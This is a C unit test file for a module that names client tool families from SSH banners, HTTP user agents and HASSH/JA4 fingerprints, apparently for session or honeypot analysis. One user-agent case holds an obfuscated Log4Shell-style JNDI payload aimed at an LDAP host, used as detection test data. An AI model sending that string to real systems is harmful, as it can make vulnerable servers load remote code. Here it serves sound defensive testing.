/* test_tool.c - tool families from banners, agents and fingerprints, and which of them a session is known by. */
#include "testing.h"

#include "detect/text/tool.h"
#include "sessions.h"

static void
test_banners(void **state)
{
	static const struct {
		const char *banner, *want;
	} cases[] = {
		{ "SSH-2.0-libssh2_1.8.0", "libssh2" },
		{ "SSH-2.0-libssh2_1.8.1_DEV", "libssh2" },
		{ "SSH-2.0-libssh-0.6.3", "libssh" },
		{ "SSH-2.0-libssh_0.9.5", "libssh" },
		{ "SSH-2.0-Go", "Go" },
		{ "SSH-2.0-PUTTY", "PUTTY" },
		{ "SSH-2.0-PuTTY_Release_0.63", "PuTTY" },
		{ "SSH-2.0-PuTTY_Snapshot_2010_02_20", "PuTTY" },
		{ "SSH-2.0-OpenSSH_7.3", "OpenSSH" },
		{ "SSH-2.0-OpenSSH_7.9p1 Raspbian-10+deb10u2+rpt1", "OpenSSH Raspbian" },
		{ "SSH-2.0-OpenSSH_6.6.1p1 Ubuntu-2ubuntu2.8", "OpenSSH Ubuntu" },
		{ "SSH-2.0-paramiko_1.8.1", "paramiko" },
		{ "SSH-2.0-JSCH-0.1.51", "JSCH" },
		{ "SSH-1.99-Erlang/4.2.2", "Erlang" },
		{ "SSH-2.0-ZGrab ZGrab SSH Survey", "ZGrab ZGrab" },
		{ "SSH-2.0-HELLOWORLD", "HELLOWORLD" },
		{ "SSH-2.0-", "" },
		{ "SSH-", "" },
		{ "", "" },
		{ "GET / HTTP/1.1", "GET /" },
	};
	struct arena *scratch = arena_new(1 << 20);

	(void)state;
	for (size_t i = 0; i < COUNT_OF(cases); i++) {
		struct sv got = tool_of_banner(sv_from(cases[i].banner), scratch);

		if (!sv_eq(got, sv_from(cases[i].want)))
			fail_msg("%s\n  got  %.*s\n  want %s", cases[i].banner, SV_ARG(got),
			    cases[i].want);
	}
	arena_free(scratch);
}

static void
test_agents(void **state)
{
	static const struct {
		const char *agent, *want;
	} cases[] = {
		{ "Mozilla/5.0 zgrab/0.x", "zgrab" },
		{ "masscan/1.0 (https://github.com/robertdavidgraham/masscan)", "masscan" },
		{ "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
		    "nmap" },
		{ "python-requests/2.21.0", "python-requests" },
		{ "Go-http-client/1.1", "go-http-client" },
		{ "curl/7.29.0", "curl" },
		{ "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like "
		  "Gecko) "
		  "Chrome/77.0.3865.120 Safari/537.36",
		    "browser Chrome Windows" },
		{ "Mozilla/5.0 (Linux; Android 9; HW-01K) AppleWebKit/537.36 Chrome/79.0 Mobile",
		    "browser Chrome Android" },
		{ "Mozilla/5.0 (Windows NT 5.1; rv:9.0.1) Gecko/20100101 Firefox/9.0.1",
		    "browser Firefox Windows" },
		{ "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1)", "browser MSIE Windows" },
		{ "Mozilla/5.0", "Mozilla" },
		{ "t('${${env:NaN:-j}ndi:ldap://1.2.3.4/a}')", "injection" },
		{ "Hello, World", "hello, world" },
		{ "ApiTool", "ApiTool" },
		{ "", "" },
	};
	struct arena *scratch = arena_new(1 << 20);

	(void)state;
	for (size_t i = 0; i < COUNT_OF(cases); i++) {
		struct sv got = tool_of_agent(sv_from(cases[i].agent), scratch);

		if (!sv_eq(got, sv_from(cases[i].want)))
			fail_msg("%s\n  got  %.*s\n  want %s", cases[i].agent, SV_ARG(got),
			    cases[i].want);
	}
	arena_free(scratch);
}

/** The most telling field wins: taken away one by one, the next one speaks. */
static void
test_order(void **state)
{
	static const struct {
		enum session_text field;
		const char *value, *want;
	} cases[] = {
		{ TEXT_HASSH, "51cba57125523ce4b9db67714a90bf6e",
		    "hassh:51cba57125523ce4b9db67714a90bf6e" },
		{ TEXT_BANNER, "SSH-2.0-libssh-0.6.3", "banner:libssh" },
		{ TEXT_USER_AGENT, "curl/7.29.0", "agent:curl" },
		{ TEXT_JA4, "t13d1516h2", "ja4:t13d1516h2" },
		{ TEXT_PACKET, "ttl:64 win:1024", "packet:ttl:64 win:1024" },
	};
	struct arena *scratch = arena_new(1 << 20);

	(void)state;
	for (size_t first = 0; first <= COUNT_OF(cases); first++) {
		struct session_row row = { .duration_us = -1 };
		struct session_table table;

		for (size_t i = first; i < COUNT_OF(cases); i++)
			row.text[cases[i].field] = sv_from(cases[i].value);
		table = session_by_hand(SERVICE_SSH, NULL, 0, &row);
		if (first == COUNT_OF(cases))
			assert_sv_equal(tool_family(&table, 0, scratch), "");
		else
			assert_true(
			    sv_eq(tool_family(&table, 0, scratch), sv_from(cases[first].want)));
		session_table_free(&table);
	}
	arena_free(scratch);
}

/** Megabytes of nothing: bounded output, and an arena without room gives the empty family. */
static void
test_hostile(void **state)
{
	size_t size = 1 << 20;
	char *text = test_malloc(size);
	struct arena *scratch = arena_new(1 << 16), *full = arena_new(1);

	(void)state;
	memset(text, 'A', size);
	assert_true(tool_of_banner((struct sv){ text, size }, scratch).len <= 130);
	assert_true(tool_of_agent((struct sv){ text, size }, scratch).len <= 130);
	assert_int_equal(tool_of_banner(SV("SSH-2.0-Go"), full).len, 0);
	memset(text, 0, size);
	assert_true(tool_of_agent((struct sv){ text, size }, scratch).len <= 130);
	test_free(text);
	arena_free(full);
	arena_free(scratch);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_banners),
		cmocka_unit_test(test_agents),
		cmocka_unit_test(test_order),
		cmocka_unit_test(test_hostile),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
